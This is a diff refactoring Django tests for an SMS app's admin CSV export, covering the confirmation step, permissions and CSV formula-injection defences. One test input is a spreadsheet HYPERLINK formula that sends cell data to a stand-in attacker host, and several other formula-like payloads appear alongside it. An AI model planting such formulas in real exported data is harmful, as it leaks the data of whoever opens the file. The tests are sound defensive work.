@@ -13,7 +13,7 @@ from django_smsww.admin.permissions import HIDDEN
 from django_smsww.models import Message
 
 from ..conftest import NUMBER
-from ..support.people import LIST, browser_of, notices, selection, staff, text_of
+from ..support.people import LIST, browser_of, missing, notices, selection, staff, text_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 SEEING = ("view_message", "export_message", "view_message_content", "view_message_costs")
@@ -42,27 +42,21 @@ def test_export_asks_first(browser, make_message):
         make_message(segments=1),
     ]
     answer = browser.post(LIST, choose(*rows))
-    text = text_of(answer)
-    for shown in ("3 messages", "4 segments", "IT (2), not known (1)", "0.14 EUR", "1 was deliv"):
-        assert shown in text
+    shown = ("3 messages", "4 segments", "IT (2), not known (1)", "0.14 EUR", "1 was deliv")
+    assert not missing(answer, *shown)
     assert "Content-Disposition" not in answer
 
 
 def test_the_confirmed_are_in_the_file(browser, make_message):
-    user = staff(name="=cmd")
-    message = make_message(
-        body="Così, “fine”\nsecond; line",
-        total_price=Decimal("0.140000"),
-        tag="otp",
-        key="order-7",
-        created_by=user,
-    )
+    body, user = "Così, “fine”\nsecond; line", staff(name="=cmd")
+    facts = {"total_price": Decimal("0.140000"), "tag": "otp", "key": "order-7"}
+    message = make_message(body=body, created_by=user, **facts)
     make_message()
     answer = browser.post(LIST, confirm(message))
     assert answer["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in answer["Content-Disposition"]
     [row] = table(answer)
-    assert (row["recipient"], row["body"]) == (NUMBER, "Così, “fine”\nsecond; line")
+    assert (row["recipient"], row["body"]) == (NUMBER, body)
     assert (row["total_price"], row["penalty"], row["tag"]) == ("0.140000", "", "otp")
     assert (row["reference"], row["key"]) == (str(message.reference), "order-7")
     assert row["created_by"] == "'=cmd"
@@ -73,10 +67,10 @@ def test_the_confirmed_are_in_the_file(browser, make_message):
     [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "\n=1", "＝1+1", "+39 333", "+"],
 )
 def test_no_cell_is_a_formula(browser, make_message, text):
-    message = make_message(body=text, tag=text[:64], sender=text[:32], error=text[:32], key=text)
+    names = ("body", "tag", "sender", "error", "key")
+    message = make_message(**dict.fromkeys(names, text[:32]) | {"body": text})
     [row] = table(browser.post(LIST, confirm(message)))
-    for name in ("body", "tag", "sender", "error", "key"):
-        assert row[name].startswith("'")
+    assert all(row[name].startswith("'") for name in names)
 
 
 @pytest.mark.parametrize("text", [NUMBER, "0.14", "-1.5", "Hello =1", "'quoted", "", "1-2"])
@@ -89,24 +83,17 @@ def test_the_filters_and_the_search_hold_for_all_of_the_list(browser, make_messa
     make_message(tag="otp")
     make_message(state=State.FAILED)
     address = f"{LIST}?tag=otp&state=FAILED"
-    question = text_of(browser.post(address, choose(wanted[0], select_across="1")))
-    assert "3 messages" in question
-    assert 'name="select_across" value="1"' in question
+    question = browser.post(address, choose(wanted[0], select_across="1"))
+    assert not missing(question, "3 messages", 'name="select_across" value="1"')
     rows = table(browser.post(address, confirm(wanted[0], select_across="1")))
     assert {row["reference"] for row in rows} == {str(row.reference) for row in wanted}
 
 
 @pytest.mark.parametrize("missing", ["view_message_content", "view_message_costs"])
 def test_what_may_not_be_seen_is_not_in_the_file(make_message, missing):
-    message = make_message(
-        body="secret",
-        key=f"{NUMBER}-x",
-        total_price=Decimal("0.37"),
-        error="InsufficientCredit",
-        error_code="0.37",
-        error_text="0.37",
-        custom={"phone": NUMBER},
-    )
+    content = {"body": "secret", "key": f"{NUMBER}-x", "custom": {"phone": NUMBER}}
+    costs = {"total_price": Decimal("0.37"), "error_code": "0.37", "error_text": "0.37"}
+    message = make_message(**content, **costs, error="InsufficientCredit")
     client = browser_of(staff(*(set(SEEING) - {missing})))
     [row] = table(client.post(LIST, confirm(message)))
     values = ",".join(row.values())
